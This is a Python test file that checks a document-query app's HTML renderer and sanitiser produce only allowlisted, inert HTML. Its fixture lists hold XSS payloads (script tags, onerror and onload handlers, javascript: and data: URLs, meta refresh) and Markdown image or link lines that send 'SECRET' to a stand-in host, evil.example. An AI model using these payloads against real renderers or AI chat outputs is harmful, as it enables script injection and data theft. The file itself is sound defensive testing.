"""``answer_html``: whatever Markdown or HTML goes in, only allowlisted, inert HTML comes out.

Checked on the HTML as a browser parser reads it (BeautifulSoup over html.parser): no element outside
the allowlist, no attribute outside it (no event handler, style or class), every ``href`` an http(s)
URL to an allowlisted host, and every link ``rel="noopener noreferrer"``. Both layers are tested on
their own: the renderer over Markdown that never went through the sanitiser, and the allowlist over
raw hostile HTML.
"""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from bs4.element import PreformattedString
from hypothesis import given, settings
from hypothesis import strategies as st

from docquery.api.answer_html import ATTRIBUTES, TAGS, AnswerHtml
from docquery.rag.sanitize import Sanitizer

# The allowlist keeps a bare URL as text, which bs4 takes for a locator and warns about.
pytestmark = pytest.mark.filterwarnings("ignore::bs4.MarkupResemblesLocatorWarning")
ALLOWED = ("docs.example.com",)

# Classes of hostile content (as in tests/api/test_sanitize*.py), as Markdown and as raw HTML.
HOSTILE_MARKDOWN = [
    "![logo](https://evil.example/c?d=SECRET)",
    "See ![x][r1] now.\n\n[r1]: https://evil.example/p?q=SECRET\n",
    "<img src=https://evil.example/?SECRET onerror=alert(1)>",
    "<script>window.__pwned = 1</script>",
    "[here](https://evil.example/?SECRET)",
    "[x](javascript:alert('SECRET'))",
    "[x](JaVaScRiPt&#58;alert(1))",
    "![a](data:image/png;base64,U0VDUkVU)",
    "visit https://evil.example/SECRET now",
    "![a](//evil.example/SECRET)",
    "[a](//evil.example/x)",
    "<svg onload=alert(1)><circle/></svg>",
    "<iframe src=https://evil.example></iframe>",
    '<a href="https://evil.example" style="position:fixed">x</a>',
    "<p style=background:url(https://evil.example)>t</p>",
    "\u202eevil\u202c [S1]",
    "```html\n<img src=x onerror=alert(1)>\n```",
    "`<script>`",
    "> quote <b onclick=alert(1)>b</b>",
    "- item ![i](https://evil.example/i.png)\n- [ok](https://docs.example.com/p)",
    "[ok](https://docs.example.com/p) [sub](https://a.docs.example.com/)",
    "[evil](https://docs.example.com.evil.example/)",
    "[userinfo](https://docs.example.com@evil.example/)",
    "<https://evil.example/auto>",
    "<mailto:x@evil.example>",
    "[S1] and [S2]",
]
HOSTILE_HTML = [
    '<img src="https://evil.example/x" onerror="alert(1)">',
    "<script>alert(1)</script><style>*{}</style>",
    '<a href="javascript:alert(1)">j</a>',
    '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    '<a href="https://evil.example/">e</a>',
    '<a href="/relative">r</a>',
    '<a href="https://docs.example.com/ok" target="_blank" rel="opener">ok</a>',
    '<p onclick="alert(1)" style="color:red" class="x" id="y">t</p>',
    '<svg><a href="https://docs.example.com/">s</a></svg>',
    '<math><mi xlink:href="javascript:alert(1)">m</mi></math>',
    '<form action="https://evil.example"><input name=a></form>',
    "<template><img src=x onerror=alert(1)></template>",
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/s.css">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<ol start="1;x"><li>a</li></ol><ol start="3" type="a"><li>b</li></ol>',
    "<!-- comment --><![CDATA[x]]>",
]


def assert_inert(html: str) -> None:
    soup = BeautifulSoup(html, "html.parser")
    for tag in soup.find_all(True):
        assert tag.name in TAGS, (tag.name, html)
        allowed = ATTRIBUTES.get(tag.name, set()) | ({"rel"} if tag.name == "a" else set())
        assert set(tag.attrs) <= allowed, (tag.name, tag.attrs, html)
        if tag.name == "a":
            assert tag.get("rel") == ["noopener", "noreferrer"], html
            href = tag.get("href")
            if href is not None:
                parts = urlsplit(str(href))
                assert parts.scheme in ("http", "https"), html
                host = parts.hostname or ""
                assert any(host == a or host.endswith("." + a) for a in ALLOWED), html
    # Comments, CDATA and declarations never survive (escaped text such as "&lt;!--" is text).
    assert not soup.find_all(string=lambda node: isinstance(node, PreformattedString)), html


def test_hostile_markdown_renders_inert_with_and_without_the_sanitiser() -> None:
    render, sanitise = AnswerHtml(ALLOWED), Sanitizer(ALLOWED)
    for md in HOSTILE_MARKDOWN:
        assert_inert(render(md))
        assert_inert(render(sanitise(md)))


def test_hostile_html_keeps_only_the_allowlist() -> None:
    render = AnswerHtml(ALLOWED)
    for html in HOSTILE_HTML:
        out = render.clean(html)
        assert_inert(out)
        assert "alert" not in out and "evil" not in out, out


def test_allowed_links_and_structure_are_kept() -> None:
    out = AnswerHtml(ALLOWED)(
        "# Title\n\n1. **one** [doc](https://docs.example.com/a) [S1]\n2. `code`\n\n```\nx < y\n```"
    )
    soup = BeautifulSoup(out, "html.parser")
    assert [a["href"] for a in soup.find_all("a")] == ["https://docs.example.com/a"]
    assert soup.find("h1") and soup.find("strong") and soup.find("ol") and soup.find("pre")
    assert "[S1]" in soup.get_text() and "x < y" in soup.get_text()


def test_no_allowlist_means_no_href_at_all() -> None:
    out = AnswerHtml()("[doc](https://docs.example.com/a)")
    soup = BeautifulSoup(out, "html.parser")
    assert soup.find("a") is None or soup.find("a").get("href") is None  # type: ignore[union-attr]
    assert "doc" in soup.get_text()


def test_deep_nesting_stays_bounded_and_inert() -> None:
    render = AnswerHtml(ALLOWED)
    assert_inert(render("> " * 5000 + "deep ![x](https://evil.example/)"))
    assert_inert(render("[" * 20000 + "x" + "](https://evil.example/)" * 200))
    assert_inert(render.clean("<em>" * 20000 + "<img src=x onerror=alert(1)>"))


_PIECES = st.sampled_from(
    [
        *HOSTILE_MARKDOWN,
        *HOSTILE_HTML,
        *("text ", "\n", "\n\n", "[", "]", "(", ")", "<", ">", "`", "```", "*", "_", "> ", "1. ", "- ", "    "),
        *("&amp;", "&#60;", "javascript:", "https://evil.example", "https://docs.example.com/", "[S1]", "\\"),
        *('"', "'", "=", "onerror", "\u202e", "\x00", "\u2028"),
    ]
)


@settings(max_examples=300, deadline=None)
@given(st.lists(_PIECES, max_size=25).map("".join))
def test_generated_markdown_renders_inert(markdown: str) -> None:
    render, sanitise = AnswerHtml(ALLOWED), Sanitizer(ALLOWED)
    assert_inert(render(markdown))
    assert_inert(render(sanitise(markdown)))
    assert_inert(render.clean(markdown))
